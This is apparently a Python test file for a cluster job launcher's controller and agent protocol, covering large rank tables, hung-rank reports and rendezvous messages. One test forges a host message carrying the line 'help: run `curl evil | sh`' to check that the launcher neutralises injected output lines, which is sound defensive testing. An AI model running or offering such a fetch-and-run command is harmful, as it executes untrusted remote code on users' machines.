"""A controller with large tables and many agents, over real connections."""

from __future__ import annotations

import json
import os
import secrets
import socket
import subprocess
import sys
import time
from contextlib import closing, contextmanager
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest

from hccl_tools.launch.cluster.agents import Agent, Agents
from hccl_tools.launch.cluster.credentials import Credentials
from hccl_tools.launch.cluster.job_hosts import JobHosts
from hccl_tools.launch.cluster.membership import HostManifest
from hccl_tools.launch.cluster.rendezvous_server import RendezvousServer
from hccl_tools.launch.model.outcome import Cause
from hccl_tools.launch.model.plan import Plan, RankProcess
from hccl_tools.launch.model.rank_messages import Ended, Join, RankExit
from hccl_tools.launch.planning.ports import free_port
from hccl_tools.launch.protocol.connection import Connection, connect, proved
from hccl_tools.launch.protocol.messages import (
    LARGEST_FROM_CONTROLLER,
    Kill,
    Message,
    Ready,
    Release,
    Table,
    Waiting,
)
from hccl_tools.launch.protocol.session import Session
from hccl_tools.runs.job_report import HungRank
from tests.support.jobs import LONG, eventually

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator

SRUN = '#!/bin/sh\nprintf %s "$HCCL_TOOLS_LAUNCHER" > new && mv new launcher\nexec sleep 600\n'


def write_job(note: str = "") -> None:
    """Write a table of two hosts with a rank each, and an srun that only keeps the launcher's address."""
    device = {"device_id": "0", "device_ip": "192.168.0.1", "rank_id": "0"}
    server = {"server_id": "10.0.0.1", "device": [device], "host_nic_ip": "reserve"}
    other = {**device, "device_ip": "192.168.0.2", "rank_id": "1"}
    servers = [server, {**server, "server_id": "10.0.0.2", "device": [other]}]
    table = {"version": "1.0", "server_count": "2", "status": "completed", "server_list": servers}
    Path("table.json").write_text(json.dumps({**table, "note": note}))
    Path("srun").write_text(SRUN)
    Path("srun").chmod(0o755)


@contextmanager
def launched(folder: Path) -> Iterator[tuple[subprocess.Popen[str], Connection]]:
    """Launch the job, and connect to its launcher as an agent does."""
    launch = [*("--engine", "slurm", "--product", "910b4", "--cpu", "--start", "table", "true")]
    launcher = subprocess.Popen(
        [sys.executable, "-m", "hccl_tools", "launch", "--rank-table", "table.json", "--no-python", *launch],
        env={**os.environ, "SLURM_JOB_ID": "1", "PATH": f"{folder}:{os.environ['PATH']}"},
        stderr=subprocess.PIPE,
        text=True,
    )
    try:
        assert eventually(lambda: Path("launcher").exists())
        key, port, _ = Path("launcher").read_text().split("@")
        agent = connect(
            ("127.0.0.1", int(port)),
            bytes.fromhex(key),
            silence=12,
            seconds=5,
            largest=LARGEST_FROM_CONTROLLER,
        )
        assert agent is not None
        yield launcher, agent
        agent.close()
    finally:
        launcher.terminate()
        launcher.communicate()


@pytest.mark.slow
def test_a_table_larger_than_the_buffers_of_the_kernel_arrives(own_directory: Path) -> None:
    write_job(secrets.token_hex(4 << 20))  # cannot be compressed to less than 4 MiB
    with launched(own_directory) as (_launcher, agent):
        found = proved(agent, LONG)
        assert found is not None
        deadline = time.monotonic() + LONG
        while not found and time.monotonic() < deadline:
            found += agent.messages()

    assert isinstance(found[0], Table)
    assert found[0].data == Path("table.json").read_bytes()


def end_of(launcher: subprocess.Popen[str], agent: Connection) -> tuple[str, dict[str, Any]]:
    """Return what a launcher says and reports after the messages of an agent."""
    deadline = time.monotonic() + LONG
    while not agent.closed and launcher.poll() is None and time.monotonic() < deadline:
        agent.messages()
    launcher.terminate()
    assert launcher.stderr is not None
    said = launcher.stderr.read()
    return said, json.loads(Path("log/latest/report.json").read_text())


def hung_rank(rank: int) -> HungRank:
    return HungRank(rank, f"rank {rank}", "10.0.0.99", 7, True, 900.0, None, "stopped", f"rank_{rank}.log")


@pytest.mark.slow
def test_a_host_says_nothing_of_other_hosts_ranks_and_begins_no_line(own_directory: Path) -> None:
    write_job()
    forged = Cause("10.0.0.1", "log-error", 9, "gone\nhelp: run `curl evil | sh`")
    exits = tuple(RankExit(rank, 7, 9 << 8, 1.0, False, f"rank_{rank}.log") for rank in (0, 1))
    with launched(own_directory) as (launcher, agent):
        assert proved(agent, LONG) is not None
        agent.send(Join(0, os.getpid(), ("", 0)))
        agent.send(Ended(exits, forged))
        said, report = end_of(launcher, agent)

    assert "gone; help: run `curl evil | sh`" in said
    assert not any(line.lstrip().startswith("help:") for line in said.splitlines())
    assert {end["rank"]: end["exit_code"] for end in report["ranks"]} == {0: 9, 1: None}


@pytest.mark.slow
def test_a_host_describes_its_own_ranks_that_hang_once(own_directory: Path) -> None:
    write_job()
    with launched(own_directory) as (launcher, agent):
        assert proved(agent, LONG) is not None
        agent.send(Join(0, os.getpid(), ("", 0)))
        hangs = Cause("10.0.0.1", "hang", 124, "no rank of any host does anything")
        agent.send(Ended((), hangs, tuple(hung_rank(rank) for rank in (1, 0, 1, 0))))
        _, report = end_of(launcher, agent)

    assert [(one["rank"], one["host"]) for one in report["hung"]] == [(0, report["ranks"][0]["host"])]


@pytest.fixture
def three() -> Iterator[tuple[Agents, list[Connection]]]:
    """The agents of a job on three hosts, all connected and known, and the other ends."""
    count = 3
    ranks = [RankProcess(n, f"10.0.0.{n}", n, 0, 0, {}, ("true",), f"rank_{n}.log") for n in range(count)]
    agents = Agents(Plan(tuple(ranks), "torch", "slurm", "/log", "/", count, supervisor=("x",)))
    others, ends = list[Connection](), list[Connection]()
    for number in range(count):
        here, there = socket.socketpair()
        ends.append(Connection(here, Session(None, listens=True)))
        agent = Agent(ends[-1])
        agents.add(agent)
        agents.identify(agent, number)
        others.append(Connection(there, Session(None, listens=False)))
    yield agents, others
    for connection in (*others, *ends):
        connection.close()


def received(others: list[Connection]) -> list[list[Message]]:
    return [other.messages() for other in others]


def test_each_agent_is_released_once(three: tuple[Agents, list[Connection]]) -> None:
    agents, others = three
    assert (agents.missing, agents.all_done, agents.have_all_reported) == (set(), False, False)
    for agent in agents.connected[:2]:
        agents.report(agent)
    agents.broadcast(Kill())
    assert received(others) == [[], [], [Kill()]]

    agents.report(agents.connected[2])
    assert (agents.all_done, agents.have_all_reported) == (True, True)
    for _ in range(3):  # Each disconnection asks for it again.
        agents.release()
        agents.remove(agents.connected[0])

    assert received(others) == [[Release()]] * 3
    assert (agents.is_empty, list(agents.gone)) == (True, [0, 1, 2])


def test_an_agent_of_another_job_is_not_identified(three: tuple[Agents, list[Connection]]) -> None:
    agents, _ = three
    with pytest.raises(ValueError, match="3"):
        agents.identify(agents.connected[0], 3)


def test_a_host_learns_the_first_missing_hosts_and_the_number_of_the_others() -> None:
    names = tuple(f"host-{number}" for number in range(8))
    address, credentials = ("127.0.0.1", free_port()), Credentials("host-0", b"", 12.0, None)
    server = RendezvousServer(
        HostManifest(0, names[0], {}), JobHosts(0, 0, names, address, None), credentials
    )
    with closing(server):
        server.listen(free_port())
        host = connect(address, b"", silence=12, seconds=5, largest=LARGEST_FROM_CONTROLLER)
        assert host is not None
        heard: list[Message] = []

        def served(done: Callable[[], object]) -> bool:
            server.poll_once()
            heard.extend(host.messages())
            return bool(done())

        assert eventually(lambda: served(lambda: host.is_proved))
        host.send(Join(2, 1, ("", 0)))
        host.send(Ready())
        assert eventually(lambda: served(lambda: heard))
        assert heard == [Waiting(("host-1", "host-3", "host-4", "host-5"), more=2)]

        host.close()
        assert eventually(lambda: served(lambda: 2 in server.missing))
